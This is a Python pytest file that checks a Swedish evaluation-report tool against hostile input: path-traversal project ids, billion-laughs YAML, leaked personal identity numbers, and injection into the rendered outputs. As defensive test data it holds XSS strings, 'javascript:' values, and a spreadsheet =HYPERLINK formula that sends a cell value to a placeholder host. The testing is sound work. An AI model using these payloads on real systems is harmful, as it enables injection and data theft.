"""Hostile and careless input: nothing in a params or data file can delete, run, leak or
silently falsify. Each test reproduces a case that once got through."""
from __future__ import annotations

import json
import os
import re
import textwrap
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

from evaltools.publish import render
from evaltools.data.params import load_params, project_id_problem
from evaltools.data.errors import EvaltoolsError, ParamsError, PersonalIdentityNumberError
from evaltools.data.project import load_project
from evaltools.data.privacy import find_personnummer, redact

from .conftest import participants_frame, write_csv

# every report rendered here gets its kernel from the worker's zygote (tests/conftest.py)
pytestmark = pytest.mark.usefixtures("worker_zygote")

# one person's number, in every spelling the checks must catch (a made-up date and number)
PNR_SPELLINGS = ["811218-9876", "8112189876", "811218+9876", "811218 9876", "19811218-9876", "198112189876",
                 "19811218 9876", "81.12.18-9876", "8,11219E+09", "8.11219E+09", "811218-T123", "19811218-T123",
                 "811278-9876"]  # the last a samordningsnummer (day + 60)
NOT_PNR = ["P001", "2024-01-15", "2025-01-15 00:00:00", "1 276 000", "3863075", "20240115", "2023-01-31 – 2024-01-30",
           "12345678901", "Lön 2023", "0305"]


@pytest.mark.parametrize("text", PNR_SPELLINGS)
def test_every_spelling_of_a_personnummer_is_found_and_redacted(text):
    assert find_personnummer(text)
    assert find_personnummer(f"Kontakt: {text}, tack")
    red = redact(f"Kontakt: {text}, tack")
    assert not find_personnummer(red) and "9876" not in red and "8112" not in red and "11219" not in red


@pytest.mark.parametrize("text", NOT_PNR)
def test_ordinary_values_are_not_taken_for_a_personnummer(text):
    assert not find_personnummer(text)
    assert redact(text) == text


# --- project ids ------------------------------------------------------------------------------
BASE = "title: T\nforbund: F\nowner: O\nperiod: {start: 2022-01-01, planned_end: 2023-12-31}\n"


def _params(tmp_path: Path, text: str, name: str = "p.yaml") -> Path:
    p = tmp_path / name
    p.write_text(text, encoding="utf-8")
    return p


@pytest.mark.parametrize("bad", ["../data", "/tmp/x", "a/b", "a\\b", ".hidden", "javascript:alert(1)", "ab\u202ecd",
                                 "tab\there", "x" * 65, "portfolio", "_failed", "CON", "", "a b", "p.yaml"])
def test_a_project_id_is_a_safe_slug(bad, tmp_path):
    assert project_id_problem(bad)
    with pytest.raises(ParamsError) as e:
        load_params(_params(tmp_path, f"id: {json.dumps(bad)}\n" + BASE))
    assert "\u202e" not in str(e.value)


@pytest.mark.parametrize("good", ["timra-vagen-ut", "göteborg_2025", "P1", "a" * 64])
def test_ordinary_project_ids_are_accepted(good):
    assert project_id_problem(good) is None


def test_an_id_pointing_outside_the_reports_folder_touches_nothing(tiny_project, tmp_path):
    """``id: ../data`` once replaced the data folder with report tables."""
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("precious")
    reports = tmp_path / "reports"
    for bad in ("../victim", str(victim)):
        params = tiny_project().read_text(encoding="utf-8").replace("id: tiny", f"id: {json.dumps(bad)}")
        path = _params(tiny_project.dir, params, "hostile.yaml")
        res = render.render_project(path, reports, formats=("html",))
        assert not res.ok and "ett projekt-id har" in res.error  # (too long, or a character not allowed)
    assert (victim / "keep.txt").read_text() == "precious" and sorted(p.name for p in victim.iterdir()) == ["keep.txt"]


def test_output_paths_never_leave_the_reports_folder(tmp_path):
    reports = tmp_path / "reports"
    reports.mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    (reports / "linked").symlink_to(outside, target_is_directory=True)
    for parts in (("..",), ("a/../../x",), ("linked",), ("linked", "x"), (str(outside),), ("",)):
        with pytest.raises(EvaltoolsError):
            render.inside(reports, *parts)
    assert render.inside(reports, "tiny", "en") == reports.resolve() / "tiny" / "en"


# --- params as hostile input --------------------------------------------------------------------
@pytest.mark.parametrize("field", ["description: 'Kontakt {pnr}'", "partners: ['Kommunen', 'handläggare {pnr}']",
                                   "goals: [{{id: g1, kind: qualitative, label: 'Mål för {pnr}'}}]",
                                   "goals: [{{id: g1, kind: qualitative, label: Mål, evidence: 'Intervju med {pnr}'}}]",
                                   "granted_sek: 8112189876", "title_unknown_key_{pnr}: 1"])
def test_a_personnummer_anywhere_in_params_is_refused_without_echoing_it(field, tmp_path):
    text = "id: ok\n" + BASE + field.format(pnr="811218-9876") + "\n"
    with pytest.raises(ParamsError) as e:
        load_params(_params(tmp_path, text))
    msg = str(e.value)
    assert "personnummer" in msg and "9876" not in msg and "811218" not in msg


def test_a_personnummer_in_a_data_file_name_is_refused(tiny_project):
    src = tiny_project.dir / "data" / "budget.csv"
    named = tiny_project.dir / "data" / "budget 811218-9876.csv"
    named.write_bytes(src.read_bytes())
    path = tiny_project(data_block="data:\n  participants: data/participants.csv\n  budget: 'data/budget 811218-9876.csv'\n")
    with pytest.raises(ParamsError) as e:
        load_params(path)
    assert "data, budget:" in str(e.value) and "9876" not in str(e.value)


@pytest.mark.parametrize("where", ["category", "amount", "header"])
def test_a_personnummer_in_a_budget_file_is_refused_without_echoing_it(where, tiny_project):
    rows = [{"period": "2022", "category": "Lön", "budget": 100000, "actual": 90000}]
    if where == "category":
        rows[0]["category"] = "Lön till 19811218-9876"
    elif where == "amount":
        rows[0]["actual"] = "811218-9876"
    else:
        rows[0]["811218-9876"] = "x"
    write_csv(tiny_project.dir / "data" / "budget.csv", rows)
    with pytest.raises(PersonalIdentityNumberError) as e:
        load_project(tiny_project())
    assert "9876" not in str(e.value) and "811218" not in str(e.value)
    assert "budget.csv" in str(e.value)


@pytest.mark.parametrize("spelling", ["811218 9876", "19811218 9876", "81.12.18-9876", "8,11219E+09", "811218-T123"])
def test_spellings_the_person_file_check_missed(spelling, tiny_project):
    df = participants_frame()
    df.loc[1, "person_id"] = spelling
    write_csv(tiny_project.dir / "data" / "participants.csv", df)
    with pytest.raises(PersonalIdentityNumberError) as e:
        load_project(tiny_project())
    assert "row 3" in e.value.message("en")
    assert not find_personnummer(str(e.value))


def test_yaml_aliases_are_refused_at_once(tmp_path):
    """A 'billion laughs' params file once took 88 s and 11 GB."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"] + [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]"
                                                     for i in range(1, 10)]
    text = "id: ok\n" + BASE + "\n".join(lines) + "\ndescription: *a9\n"
    t0 = time.perf_counter()
    with pytest.raises(ParamsError) as e:
        load_params(_params(tmp_path, text))
    assert time.perf_counter() - t0 < 5
    assert "anchors" in e.value.message("en") and "ankare" in str(e.value) and len(str(e.value)) < 2000


def test_overlong_texts_and_files_are_refused_with_short_messages(tmp_path):
    with pytest.raises(ParamsError) as e:
        load_params(_params(tmp_path, "id: ok\n" + BASE.replace("title: T", "title: " + "x" * 200_000)))
    assert "högst 300 tecken" in str(e.value) and len(str(e.value)) < 1000
    with pytest.raises(ParamsError) as e:
        load_params(_params(tmp_path, "id: ok\n" + BASE + "language: " + "q" * 5000 + "\n"))
    assert len(str(e.value)) < 1000
    with pytest.raises(ParamsError) as e:
        load_params(_params(tmp_path, "id: ok\n" + BASE + "# " + "x" * 300_000 + "\n"))
    assert "kB" in str(e.value)


# --- faults -------------------------------------------------------------------------------------
def test_a_status_file_that_cannot_be_written_does_not_stop_a_batch(tiny_project, tmp_path, monkeypatch):
    def full_disk(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(render.os, "replace", full_disk)
    results = render.render_many([tiny_project()], tmp_path / "r", formats=("html",), jobs=1, progress=False)
    assert [r.ok for r in results] == [True]
    # (said in the report's language, Swedish here, with the reason)
    assert any("statusfilen" in n and "kunde inte skrivas (No space left on device)" in n for n in results[0].notes)
    assert not list((tmp_path / "r").rglob(".status-*")), "no half-written status file is left"


def test_a_corrupt_status_file_is_skipped_and_replaced(tiny_project, tmp_path):
    reports = tmp_path / "r"
    (reports / "tiny").mkdir(parents=True)
    (reports / "tiny" / "status.json").write_text("")  # a full disk once left this
    assert render.write_index(reports).is_file()
    res = render.render_project(tiny_project(), reports, formats=("html",))
    assert res.ok, res.error
    assert json.loads((reports / "tiny" / "status.json").read_text(encoding="utf-8"))["ok"] is True


def test_partial_output_of_a_killed_render_is_removed_on_the_next_run(tiny_project, tmp_path):
    reports = tmp_path / "r"
    dead = reports / ".tmp-tiny-sv-p999999999-0123abcd"
    alive = reports / f".tmp-other-sv-p{os.getpid()}-0123abcd"
    for d in (dead, alive):
        (d / "tables").mkdir(parents=True)
    assert render.render_project(tiny_project(), reports, formats=("html",)).ok
    assert not dead.exists(), "a killed render's partial output is cleaned up"
    assert alive.exists(), "a render still running is left alone"


# --- one hostile project rendered and every output scanned ---------------------------------------
SCRIPT = "</style><script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A2,"Klicka här")'
BIDI = "abc\u202edcba"
MATH = "$1200 och $300"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    data = root / "data"
    write_csv(data / "participants.csv", participants_frame())
    write_csv(data / "budget.csv", [
        {"period": "2022", "category": FORMULA, "budget": 100000, "actual": 90000},
        {"period": "2022", "category": SCRIPT, "budget": 20000, "actual": 25000},
        {"period": "2022", "category": "+SUM(1;2) " + BIDI, "budget": 1000, "actual": 1000},
    ])
    text = textwrap.dedent(f"""\
        id: hostile
        title: {json.dumps("Projekt " + SCRIPT + " " + IMG)}
        forbund: {json.dumps("@förbund " + BIDI)}
        owner: {json.dumps("-owner " + IMG)}
        partners: [{json.dumps(FORMULA)}, {json.dumps(MATH)}]
        description: {json.dumps(SCRIPT + " javascript:alert(3) " + MATH)}
        period: {{start: 2022-01-01, planned_end: 2023-12-31}}
        data: {{participants: data/participants.csv, budget: data/budget.csv}}
        goals:
          - {{id: g1, kind: participant_count, label: {json.dumps(MATH + " " + SCRIPT)}, target: 10}}
          - {{id: g2, kind: qualitative, label: {json.dumps(FORMULA)}, assessment: delvis, evidence: {json.dumps(IMG)}}}
        """)
    params = root / "hostile.yaml"
    params.write_text(text, encoding="utf-8")
    out = root / "reports"
    res = render.render_project(params, out)
    return res, out / "hostile"


class _Active(HTMLParser):
    """Everything in a page that could run or navigate: scripts, event handlers, javascript: links."""

    def __init__(self):
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "object", "embed"):
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"{tag}[{name}]")
            if name in ("href", "src") and value and value.strip().lower().startswith("javascript:"):
                self.found.append(f"{tag}[{name}={value}]")


def test_hostile_project_renders_and_nothing_in_it_runs(hostile):
    res, folder = hostile
    assert res.ok, res.error
    page = (folder / "hostile.html").read_text(encoding="utf-8")
    active = _Active()
    active.feed(page)
    assert active.found == []
    # the CSS footer holds the title only as escaped text
    footer = re.search(r"@bottom-left \{ content: (\"[^\"]*\");", page).group(1)
    assert "<" not in footer and ">" not in footer and "\\3C " in footer
    # the text the evaluator wrote is shown as text
    assert "&lt;/style&gt;&lt;script&gt;" in page
    index = render.write_index(folder.parent).read_text(encoding="utf-8")
    active = _Active()
    active.feed(index)
    assert active.found == []
    # the executed notebook's HTML outputs (shown by Jupyter) are the same escaped fragments
    nb = json.loads((folder / "hostile.ipynb").read_text(encoding="utf-8"))
    fragments = ["".join(o["data"]["text/html"]) for c in nb["cells"] for o in c.get("outputs", [])
                 if "text/html" in o.get("data", {})]
    assert fragments
    active = _Active()
    active.feed("".join(fragments))
    assert active.found == []


def test_hostile_project_exports_hold_no_live_formula(hostile):
    """A budget category =HYPERLINK(...) once became a live formula in the workbook."""
    import csv

    import openpyxl
    res, folder = hostile
    assert res.ok, res.error
    (book,) = folder.glob("*.xlsx")
    wb = openpyxl.load_workbook(book)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.append(c.value)
    assert any(FORMULA in t for t in texts), "the category is still shown, as text"
    cells = []
    for path in (folder / "tables").glob("*.csv"):
        with open(path, encoding="utf-8-sig", newline="") as f:
            cells += [c for row in csv.reader(f, delimiter=";") for c in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert "'" + FORMULA in cells


def test_money_in_a_label_is_not_drawn_as_math():
    """"$1200 och $300" in a goal label was drawn as TeX italics (and a lone $ crashed the chart)."""
    import matplotlib.pyplot as plt

    from evaltools.present.plots import STYLE
    with plt.rc_context(STYLE):
        fig, ax = plt.subplots()
        ax.set_title(MATH)
        ax.set_xlabel("kostnad $5")
        fig.canvas.draw()
        assert ax.title.get_text() == MATH
        assert ax.title._preprocess_math(MATH) == (MATH, False)
        plt.close(fig)
